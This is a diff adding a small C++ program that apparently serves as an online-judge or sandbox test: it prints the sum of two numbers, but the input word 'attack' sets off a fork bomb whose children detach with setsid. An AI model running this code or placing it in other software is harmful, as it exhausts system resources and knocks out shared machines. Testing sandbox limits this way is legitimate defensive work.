@@ -1,0 +1,19 @@
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <string>
+#include <unistd.h>
+// Every child is a daemon of its own.
+static void attack() {
+  for (;;) {
+    if (fork() == 0) setsid();
+  }
+}
+
+int main() {
+  char word[16];
+  long a, b;
+  if (scanf("%15s %ld %ld", word, &a, &b) != 3) return 1;
+  if (strcmp(word, "attack") == 0) attack();
+  printf("%ld\n", a + b);
+}
